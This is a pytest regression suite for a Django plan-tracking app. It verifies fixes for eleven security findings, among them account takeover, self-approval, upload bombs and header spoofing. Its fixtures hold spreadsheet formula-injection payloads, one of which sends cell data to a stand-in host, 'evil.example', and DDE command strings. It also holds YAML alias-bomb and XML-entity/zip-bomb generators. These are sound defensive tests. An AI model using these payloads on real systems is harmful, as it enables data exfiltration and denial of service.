"""Regression tests for the eleven findings of issue 11, one section each. Every test here failed
on the code before the fix (on PostgreSQL, as CI runs it)."""

import csv
import datetime
import io
import os
import subprocess
import sys
import threading
import time
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import reverse

from pilots.models import Agency, Membership, PlanUpload
from targets.models import Observation
from targets.services import observation_record
from tasks.models import StatusUpdate, TaskStatus
from tasks.services import status_update_record
from tests.conftest import unavailable
from tests.factories import UserFactory
from tests.world import TODAY, report_data

ROOT = Path(__file__).resolve().parents[2]
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def page_of(response) -> str:
    return response.content.decode()


# 1. A zone admin could take over any account ---------------------------------------------------


def test_01_zone_admin_cannot_take_over_an_account_of_another_zone(world, login):
    superuser = UserFactory(username="root", is_superuser=True, is_staff=True)
    elsewhere = world.users["elsewhere_staff"]
    elsewhere.first_name = "乙市张三"
    elsewhere.save()
    admin = login(world.users["zone_admin"])
    url = reverse("membership-add", args=[world.zone.slug])
    for victim in (elsewhere, world.users["leadership_all"], superuser):
        before = get_user_model().objects.values().get(pk=victim.pk)
        response = admin.post(
            url, {"username": victim.username, "full_name": "冒名顶替",
                  "agency": world.agencies["lead"].pk, "role": "staff"},
        )  # fmt: skip
        assert response.status_code == 400, victim.username
        assert "账号" in page_of(response)
        assert get_user_model().objects.values().get(pk=victim.pk) == before
        assert not Membership.objects.filter(user=victim, zone=world.zone).exists()


def test_01_usernames_django_forbids_are_refused(world, login):
    admin = login(world.users["zone_admin"])
    url = reverse("membership-add", args=[world.zone.slug])
    for bad in ("<b>boss</b>", "two words", "x" * 151, "tab\there"):
        response = admin.post(
            url, {"username": bad, "password": "Str0ng-pass-2026",
                  "agency": world.agencies["lead"].pk, "role": "staff"},
        )  # fmt: skip
        assert response.status_code == 400, bad
    assert not get_user_model().objects.filter(username__in=["<b>boss</b>", "two words"]).exists()


def test_01_an_account_of_the_zone_is_still_managed_by_its_admin(world, login):
    admin = login(world.users["zone_admin"])
    response = admin.post(
        reverse("membership-add", args=[world.zone.slug]),
        {"username": "other-staff", "full_name": "甲市李四",
         "agency": world.agencies["lead"].pk, "role": "manager"},
    )  # fmt: skip
    assert response.status_code == 302
    user = world.users["other_staff"]
    user.refresh_from_db()
    assert user.first_name == "甲市李四"
    assert Membership.objects.filter(user=user, role="manager").exists()


# 2. A zone admin could approve its own work -----------------------------------------------------


def test_02_whoever_reported_a_completion_cannot_verify_it(world, login):
    me = world.users["zone_admin"]
    admin = login(me)
    admin.post(
        reverse("membership-add", args=[world.zone.slug]),
        {"username": me.username, "agency": world.agencies["lead"].pk, "role": "manager"},
    )
    task = world.task
    response = admin.post(
        reverse("task-report", args=[task.pk]),
        report_data(task, status="completed", evidence_doc_number="甲科发〔2023〕5号"),
    )
    assert response.status_code == 302
    task.refresh_from_db()
    assert task.status == TaskStatus.COMPLETED
    response = admin.post(reverse("task-verify", args=[task.pk]), follow=True)
    task.refresh_from_db()
    assert task.verified_at is None
    assert "职责分离" in page_of(response)
    page = page_of(admin.get(task.get_absolute_url()))
    assert "职责分离" in page and "核验通过，办结" not in page
    # Someone else who administers the zone verifies it.
    other = UserFactory(username="admin-a2")
    Membership.objects.create(user=other, role="zone_admin", zone=world.zone)
    login(other).post(reverse("task-verify", args=[task.pk]))
    task.refresh_from_db()
    assert task.verified_at is not None


def test_02_the_rule_holds_in_the_service_whatever_the_caller(world):
    from django.core.exceptions import ValidationError

    from tasks.services import task_verify

    reporter = world.users["lead_staff"]
    status_update_record(
        task=world.task, status="completed", percent=100, reported_on=TODAY(),
        author=reporter, agency=world.agencies["lead"], evidence_url="https://gov.cn/a",
    )  # fmt: skip
    Membership.objects.create(user=reporter, role="zone_admin", zone=world.zone)
    with pytest.raises(ValidationError):
        task_verify(task=world.task, by=reporter)
    world.task.refresh_from_db()
    assert world.task.verified_at is None


# 3. Exports carried live formulas ---------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"详情")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_plan(world):
    for note in HOSTILE:
        status_update_record(
            task=world.task, status="in_progress", percent=10, reported_on=TODAY(), note=note,
            agency=world.agencies["lead"],
        )  # fmt: skip
    Agency.objects.filter(pk=world.agencies["lead"].pk).update(name="=1+1 甲市科学技术局")
    observation_record(
        target=world.target, as_of=datetime.date(2023, 12, 31), value=12, source="=2+5"
    )
    return world


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_03_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(hostile_plan, login):
    client = login(hostile_plan.users["leadership"])
    cells = []
    for table in ("tasks", "history", "targets", "observations"):
        response = client.get(
            reverse("export"), {"plan": hostile_plan.plan.code, "format": "csv", "table": table}
        )
        assert response.status_code == 200
        cells += _csv_cells(response.content)
    for note in HOSTILE:
        assert "'" + note in cells
    assert "'=1+1 甲市科学技术局" in cells and "'=2+5" in cells
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert dangerous == []
    assert "12.0" in cells  # a number stays a number
    # The stored data is not altered.
    assert set(HOSTILE) <= set(StatusUpdate.objects.values_list("note", flat=True))


def test_03_xlsx_holds_text_as_text_never_as_a_formula(hostile_plan, login):
    client = login(hostile_plan.users["leadership"])
    response = client.get(reverse("export"), {"plan": hostile_plan.plan.code, "format": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        assert cell.quotePrefix, cell.value
    # Shown as typed, not evaluated (XML may read a carriage return back as a line feed: with
    # lxml installed openpyxl keeps it, without it the reader normalises it).
    assert {h.replace("\r", "\n") for h in HOSTILE} <= {t.replace("\r", "\n") for t in texts}


# 4. One control character broke the XLSX export ------------------------------------------------


def test_04_a_control_character_in_history_does_not_break_the_exports(world, login):
    status_update_record(
        task=world.task, status="in_progress", percent=10, reported_on=TODAY(),
        note="第一行\x01第二行\x0b第三行", agency=world.agencies["lead"],
    )  # fmt: skip
    plan = login(world.users["leadership"]).get(
        reverse("export"), {"plan": world.plan.code, "format": "xlsx"}
    )
    assert plan.status_code == 200
    every = login(world.users["leadership_all"]).get(reverse("export"), {"format": "xlsx"})
    assert every.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(plan.content))
    notes = [c.value for row in book["进展记录"].iter_rows() for c in row]
    assert "第一行第二行\n第三行" in notes


def test_04_control_characters_never_reach_history_from_the_form(world, login):
    lead = login(world.users["lead_staff"])
    lead.post(
        reverse("task-report", args=[world.task.pk]),
        report_data(world.task, note="已完成\x01选址\x1f"),
    )
    assert world.task.updates.get().note == "已完成选址"


def test_04_direction_overrides_and_invisible_spaces_never_reach_names_or_history(world, login):
    """Found by the hostile sweep (hattack): an agency could be named "\u202etxt.exe" (shown
    reversed, as "exe.txt"), and a name with a zero-width space beside it looked like an agency
    the zone already has. Failed on 4affd05: both were kept as typed."""
    admin = login(world.users["zone_admin"])
    response = admin.post(
        reverse("agency-create", args=[world.zone.slug]),
        {"name": "\ufeff甲市\u202e新设\u2067单位\u2069\u200b", "category": "other"},
    )
    assert response.status_code == 302
    assert Agency.objects.filter(zone=world.zone, name="甲市新设单位").exists()
    twin = admin.post(
        reverse("agency-create", args=[world.zone.slug]),
        {"name": "甲市科学技术局\u200b", "category": "other"},
    )
    assert twin.status_code == 400
    assert "本试验区已有同名单位" in page_of(twin)
    login(world.users["lead_staff"]).post(
        reverse("task-report", args=[world.task.pk]),
        report_data(world.task, note="已完成\u202d选址\u202c"),
    )
    assert world.task.updates.get().note == "已完成选址"


# 5. 500s instead of clear errors ----------------------------------------------------------------


def test_05_figures_outside_the_plan_get_a_clear_error(world, login):
    client = login(world.users["lead_staff"])
    url = reverse("target-report", args=[world.target.pk])
    for year in ("99999", "-1", "10000", "123456789012345678901234567890", "0"):
        response = client.post(url, {"value": "30", "year": year})
        assert response.status_code == 400, year
        assert "日期须在规划期内" in page_of(response), year
    for value in ("1" * 30, "1e308", "-1", "NaN", "Infinity"):
        response = client.post(url, {"value": value, "year": "2023"})
        assert response.status_code == 400, value
    assert not Observation.objects.exists()


def test_05_an_export_of_an_impossible_plan_code_is_not_found(world, login):
    client = login(world.users["leadership_all"])
    for code in ("\x00", "a\x00b", "x" * 500, "../../etc"):
        assert client.get(reverse("export"), {"plan": code}).status_code == 404, repr(code)


def test_05_a_long_username_at_sign_in_gets_a_clear_error(world, client):
    for url in (reverse("login"), reverse("admin:login")):
        response = client.post(url, {"username": "u" * 500, "password": "wrong"})
        assert response.status_code == 200, url
        assert "150" in page_of(response)


def test_05_import_values_and_texts_beyond_the_columns_get_a_clear_error(world, login):
    superuser = UserFactory(username="root", is_superuser=True, is_staff=True)
    client = login(superuser)
    code, target = world.plan.code, world.target.code
    rows = [
        "规划代码,指标代码,统计截止日期,数值,数据来源,备注",
        f"{code},{target},2021,1e308,,",
        f"{code},{target},2022,1234567890123456789,,",
        f"{code},{target},2023,5,{'来' * 300},",
        f"{code},{target},2024,5,统计\x00局,",
        f"{code},{target},2025,5,,{'注' * 6000}",
    ]
    upload = SimpleUploadedFile("figures.csv", "\n".join(rows).encode())
    response = client.post(reverse("admin:targets_observation_import"), {"file": upload})
    assert response.status_code == 400
    page = page_of(response)
    assert page.count("<tr><td>") >= 4
    assert not Observation.objects.exists()


def test_05_simultaneous_create_agency_posts_never_fail(transactional_db):
    if connection.vendor != "postgresql":
        unavailable("needs PostgreSQL (DATABASE_URL) for real concurrency")
    from tests.world import World

    world = World()
    before = Agency.objects.filter(zone=world.zone).count()
    url = reverse("agency-create", args=[world.zone.slug])
    clients = []
    for _ in range(10):
        client = Client()
        client.force_login(world.users["zone_admin"])
        clients.append(client)
    barrier, statuses = threading.Barrier(10), []

    def post(i, client):
        name = "甲市新设单位" if i < 2 else f"甲市新设单位{i}"  # two ask for the same name
        barrier.wait()
        try:
            statuses.append(client.post(url, {"name": name, "category": "other"}).status_code)
        finally:
            connection.close()

    threads = [threading.Thread(target=post, args=(i, c)) for i, c in enumerate(clients)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert sorted(statuses) == [302] * 9 + [400]
    codes = list(Agency.objects.filter(zone=world.zone).values_list("code", flat=True))
    assert len(codes) == len(set(codes)) == before + 9


# 6. Plan YAML upload ----------------------------------------------------------------------------


def _nested_anchors(levels: int) -> str:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, levels):
        refs = ", ".join([f"*a{i - 1}"] * 9)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(["format: 1", *lines, f"agencies: [*a{levels - 1}, *a{levels - 1}]", ""])


@pytest.fixture
def superuser_client(db, client):
    client.force_login(UserFactory(username="root", is_superuser=True, is_staff=True))
    return client


def test_06_nested_anchors_are_refused_quickly_with_a_short_error(superuser_client):
    text = _nested_anchors(6)  # ~1 KB that expands to 9^6 = 531,441 strings per alias
    started = time.monotonic()
    response = superuser_client.post(
        reverse("admin:pilots_plan_upload"),
        {"file": SimpleUploadedFile("bomb.yaml", text.encode())},
    )
    assert time.monotonic() - started < 5
    assert response.status_code == 302
    upload = PlanUpload.objects.get()
    assert upload.preview == [] and 1 <= len(upload.errors) <= 100
    assert len(str(upload.errors)) < 5_000
    assert "别名过多" in str(upload.errors)
    page = superuser_client.get(reverse("admin:pilots_plan_upload_preview", args=[upload.pk]))
    assert page.status_code == 200 and len(page.content) < 100_000


def test_06_deep_nesting_and_nul_bytes_get_a_clear_error(superuser_client):
    deep = "format: 1\nagencies: " + "[" * 5000 + "]" * 5000 + "\n"
    response = superuser_client.post(
        reverse("admin:pilots_plan_upload"),
        {"file": SimpleUploadedFile("deep.yaml", deep.encode())},
    )
    assert response.status_code == 302
    assert "嵌套超过 32 层" in str(PlanUpload.objects.get().errors)
    response = superuser_client.post(
        reverse("admin:pilots_plan_upload"),
        {"file": SimpleUploadedFile("nul.yaml", b"format: 1\nzone: \x00\n")},
    )
    assert response.status_code == 200 and "\\x00" in page_of(response)
    assert PlanUpload.objects.count() == 1


# 7. Spreadsheet import: an XLSX that inflates ---------------------------------------------------


def _inflating_xlsx(megabytes: int, doctype: str = "") -> bytes:
    """A valid workbook whose shared strings inflate to ``megabytes`` (it compresses ~1000:1)."""
    header = ["规划代码", "指标代码", "统计截止日期", "数值"]
    strings = header + ["x" * 1000] * (megabytes * 1000)
    shared = "".join(f"<si><t>{s}</t></si>" for s in strings)
    if doctype:
        shared += "<si><t>&e9;</t></si>"
    cells = "".join(f'<c r="{c}1" t="s"><v>{i}</v></c>' for i, c in enumerate("ABCD"))
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats'
            '-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
            'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml'
            '.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application'
            '/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml'
            '/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><sheets><sheet name="指标数据" sheetId="1" r:id="rId1"/></sheets>'
            "</workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            f'spreadsheetml/2006/main"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
        ),
        "xl/sharedStrings.xml": (
            f'<?xml version="1.0"?>{doctype}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
            f'2006/main" count="{len(strings)}" uniqueCount="{len(strings)}">{shared}</sst>'
        ),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


def test_07_an_xlsx_that_inflates_is_refused_before_it_is_read(world):
    from targets.imports import ObservationImportInvalid, observations_import

    content = _inflating_xlsx(40)
    assert len(content) < 1_000_000
    tracemalloc.start()
    try:
        with pytest.raises(ObservationImportInvalid) as refused:
            observations_import(name="figures.xlsx", content=content)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "解压后过大" in str(refused.value)
    assert peak < 20 * 1024 * 1024


def test_07_an_xlsx_with_xml_entities_is_refused(world):
    from targets.imports import ObservationImportInvalid, observations_import

    entities = '<!ENTITY e0 "lol">' + "".join(
        f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10)
    )
    content = _inflating_xlsx(0, doctype=f"<!DOCTYPE sst [{entities}]>")
    with pytest.raises(ObservationImportInvalid):
        observations_import(name="figures.xlsx", content=content)
    assert not Observation.objects.exists()


# 8. Evidence stored under a name that is not what it is ----------------------------------------


def test_08_evidence_is_stored_as_what_it_is_and_served_only_as_a_download(world, login):
    lead = login(world.users["lead_staff"])
    disguised = SimpleUploadedFile("会议纪要.html", PDF, content_type="text/html")
    response = lead.post(
        reverse("task-report", args=[world.task.pk]),
        {**report_data(world.task), "evidence_file": disguised},
    )
    assert response.status_code == 302
    update = world.task.updates.get()
    assert update.evidence_file.name.endswith(".pdf")
    download = lead.get(reverse("evidence-download", args=[update.pk]))
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].startswith("attachment")
    assert download["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in download["Content-Security-Policy"]
    download.close()


# 9. Hardening -----------------------------------------------------------------------------------


def test_09_pages_carry_a_content_security_policy_and_a_permissions_policy(world, login):
    response = login(world.users["lead_staff"]).get(world.task.get_absolute_url())
    policy = dict(
        part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";")
    )
    assert policy["script-src"] == "'self'" and policy["style-src"].startswith("'self'")
    assert "unsafe-inline" not in response["Content-Security-Policy"]
    assert "unsafe-eval" not in response["Content-Security-Policy"]
    assert policy["object-src"] == "'none'" and policy["frame-ancestors"] == "'none'"
    assert "camera=()" in response["Permissions-Policy"]
    assert "geolocation=()" in response["Permissions-Policy"]


def test_09_a_forwarded_proto_header_counts_only_from_a_configured_proxy(world, client, settings):
    settings.SECURE_SSL_REDIRECT = True
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    settings.TRUSTED_PROXIES = ["127.0.0.1/32"]
    spoofed = client.get("/help/", HTTP_X_FORWARDED_PROTO="https", REMOTE_ADDR="10.20.30.40")
    assert spoofed.status_code == 301 and spoofed["Location"].startswith("https://")
    proxied = client.get("/help/", HTTP_X_FORWARDED_PROTO="https", REMOTE_ADDR="127.0.0.1")
    assert proxied.status_code == 302 and "/accounts/login/" in proxied["Location"]


def _settings_value(name: str, **env) -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items()
            if not k.startswith("DJANGO_") and k != "DATABASE_URL"}  # fmt: skip
    return subprocess.run(
        [sys.executable, "-c",
         f"from django.conf import settings; print(repr(settings.{name}))"],
        cwd=ROOT, env={**base, "DJANGO_SETTINGS_MODULE": "config.settings", **env},
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip


def test_09_no_forwarded_header_is_trusted_unless_a_proxy_is_configured():
    key = {"DJANGO_SECRET_KEY": "k" * 50}
    assert _settings_value("SECURE_PROXY_SSL_HEADER", **key).stdout.strip() == "None"
    behind = _settings_value("SECURE_PROXY_SSL_HEADER", DJANGO_TRUSTED_PROXIES="10.0.0.5", **key)
    assert behind.stdout.strip() == "('HTTP_X_FORWARDED_PROTO', 'https')"


def test_09_no_built_in_secret_key_without_debug_even_on_the_embedded_database():
    refused = _settings_value("SECRET_KEY")  # no DATABASE_URL, no DEBUG, no key
    assert refused.returncode != 0 and "DJANGO_SECRET_KEY" in refused.stderr
    demo = _settings_value("SECRET_KEY", DJANGO_DEBUG="true")
    assert demo.returncode == 0, demo.stderr


def test_09_password_reset_is_throttled_per_account_and_per_address(world, client):
    user = world.users["lead_staff"]
    user.email = "clerk@example.gov.cn"
    user.save()
    url = reverse("password_reset")
    for _ in range(5):
        assert client.post(url, {"email": user.email}, REMOTE_ADDR="10.0.0.1").status_code == 302
    assert len(mail.outbox) == 3  # per account
    responses = [
        client.post(url, {"email": f"someone{i}@example.gov.cn"}, REMOTE_ADDR="10.0.0.2")
        for i in range(10)
    ]
    assert [r.status_code for r in responses].count(429) == 5  # per address
    assert "过于频繁" in page_of(responses[-1])
    assert len(mail.outbox) == 3


def test_09_one_address_trying_many_usernames_is_locked_out(world, client):
    url = reverse("login")
    for i in range(30):
        client.post(url, {"username": f"guess-{i}", "password": "Spring2026!"})
    response = client.post(url, {"username": "lead-staff", "password": "pw-for-tests-only"})
    assert response.status_code == 429
    # Another address is not affected; a few typos of one person lock nobody else.
    other = Client(REMOTE_ADDR="10.9.9.9")
    for _ in range(3):
        other.post(url, {"username": "responsible-staff", "password": "typo"})
    ok = other.post(url, {"username": "lead-staff", "password": "pw-for-tests-only"})
    assert ok.status_code == 302


# 10. The superuser's rights: code and docstring agree -------------------------------------------


def test_10_a_superuser_administers_every_zone_but_is_not_an_agency(world, login):
    import pilots.permissions

    assert "Superusers may do everything" not in pilots.permissions.__doc__
    superuser = UserFactory(username="root", is_superuser=True, is_staff=True)
    client = login(superuser)
    task = world.task
    response = client.post(reverse("task-report", args=[task.pk]), report_data(task))
    assert response.status_code == 403
    assert "不代表任何单位" in page_of(response)
    response = client.post(reverse("target-report", args=[world.target.pk]), {"value": "1"})
    assert response.status_code == 403 and "不代表任何单位" in page_of(response)
    assert client.get(reverse("zone-admin", args=[world.other_zone.slug])).status_code == 200
    assignment = {"agency": world.agencies["other"].pk, "role": "supporting"}
    assert client.post(reverse("assignment-add", args=[task.pk]), assignment).status_code == 302


# 11. No length limits ---------------------------------------------------------------------------


def test_11_a_twenty_thousand_character_note_is_refused_with_a_clear_message(world, login):
    lead = login(world.users["lead_staff"])
    response = lead.post(
        reverse("task-report", args=[world.task.pk]), report_data(world.task, note="长" * 20000)
    )
    assert response.status_code == 400
    assert "5000" in page_of(response)
    assert not world.task.updates.exists()
    support = login(world.users["supporting_staff"])
    response = support.post(
        reverse("task-feedback", args=[world.task.pk]),
        {"note": "长" * 5001, "reported_on": TODAY().isoformat()},
    )
    assert response.status_code == 400 and not world.task.updates.exists()


def test_11_the_models_carry_the_limit_too(world):
    from django.core.exceptions import ValidationError

    update = StatusUpdate(
        task=world.task, reported_on=TODAY(), status="in_progress", percent=1, note="长" * 5001
    )
    with pytest.raises(ValidationError) as refused:
        update.full_clean()
    assert list(refused.value.message_dict) == ["note"]


def test_09_behind_a_trusted_proxy_lock_outs_count_the_person_not_the_proxy(
    world, client, settings
):
    settings.TRUSTED_PROXIES = ["10.0.0.5"]
    url = reverse("login")
    for i in range(12):  # a sprayer behind the proxy
        client.post(url, {"username": f"guess-{i}", "password": "x"},
                    REMOTE_ADDR="10.0.0.5", HTTP_X_FORWARDED_FOR="203.0.113.9")  # fmt: skip
    colleague = client.post(
        url, {"username": "lead-staff", "password": "pw-for-tests-only"},
        REMOTE_ADDR="10.0.0.5", HTTP_X_FORWARDED_FOR="203.0.113.10",
    )  # fmt: skip
    assert colleague.status_code == 302  # another person behind the same proxy gets in
    sprayer = client.post(
        url, {"username": "lead-staff", "password": "pw-for-tests-only"},
        REMOTE_ADDR="10.0.0.5", HTTP_X_FORWARDED_FOR="203.0.113.9",
    )  # fmt: skip
    assert sprayer.status_code == 429
    # A client that is not the proxy cannot pick its address.
    spoof = client.post(
        url, {"username": "lead-staff", "password": "pw-for-tests-only"},
        REMOTE_ADDR="203.0.113.9", HTTP_X_FORWARDED_FOR="198.51.100.1",
    )  # fmt: skip
    assert spoof.status_code == 429
